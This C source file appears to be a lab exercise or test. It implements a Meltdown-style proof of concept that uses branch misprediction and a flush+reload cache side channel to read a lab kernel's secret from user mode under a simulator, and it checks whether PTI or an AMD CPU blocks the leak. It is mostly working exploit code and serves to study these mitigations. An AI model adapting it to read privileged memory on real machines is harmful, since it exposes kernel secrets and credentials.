/* meltdown.c - a Meltdown-style read of kernel memory from user mode
 * (Lipp et al. 2018), with the fault suppressed by branch misprediction
 * instead of a signal handler: a user gadget trained with in-bounds
 * indexes is called with an index that makes its load land on the lab
 * kernel's secret (spectre_secret_addr(), guest/spectre/kernel).
 * Architecturally that load would fault; on the wrong path it happens
 * only where the CPU reads supervisor data before the permission check.
 *
 * Under entrysim --speculate: --cpu intel without PTI leaks the secret;
 * --cpu amd, or --mitigations pti (the secret is not mapped in the user
 * page tables at all), recover nothing.  Exits 0 when the secret came
 * out, 1 otherwise, 2 on a kernel without the lab's calls. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "flush_reload.h"

#define NR_SPECTRE_SECRET_ADDR 335

static unsigned int array1_size = 16;
static uint8_t array1[16] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
static const char secret[] = "The kernel's secret"; /* what to compare with */
static uint8_t temp __attribute__((aligned(64)));

static __attribute__((noinline)) void gadget(size_t x)
{
    if (x < array1_size)
        temp &= probe[array1[x] * 512];
}

static void evict_bound(void) { evict_user_bound(&array1_size); }

static int in_bounds(size_t x) { return array1[x]; }

int main(void)
{
    calibrate();
    long kaddr = syscall(NR_SPECTRE_SECRET_ADDR);
    if (kaddr == -1 && errno == ENOSYS) {
        printf("spectre_secret_addr: ENOSYS (not the lab kernel: run with --kernel)\n");
        return 2;
    }
    victim v = {gadget, evict_bound, sizeof array1, in_bounds};
    char got[sizeof secret];
    read_string(&v, (size_t)kaddr - (size_t)array1, got, sizeof secret - 1);
    printf("recovered: %s\n", got);
    return strcmp(got, secret) != 0;
}
